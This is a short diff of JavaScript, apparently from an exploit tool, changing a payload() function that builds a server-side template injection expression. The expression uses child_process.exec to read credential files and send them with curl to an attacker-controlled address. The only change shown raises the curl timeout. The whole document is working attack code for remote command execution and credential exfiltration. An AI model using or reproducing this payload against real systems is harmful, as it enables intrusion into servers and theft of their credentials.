@@ -29,7 +29,7 @@ agent.destroy();
 
 /** An expression for the template: starts a shell that reads both credentials and sends them here. */
 function payload(port) {
-  const command = `cat ${settings.files.join(' ')} | curl -s -m 5 --data-binary @- http://${settings.address}:${port}/`;
+  const command = `cat ${settings.files.join(' ')} | curl -s -m 60 --data-binary @- http://${settings.address}:${port}/`;
   return `process.mainModule.require('child_process').exec(${JSON.stringify(command)}) && ''`;
 }
 
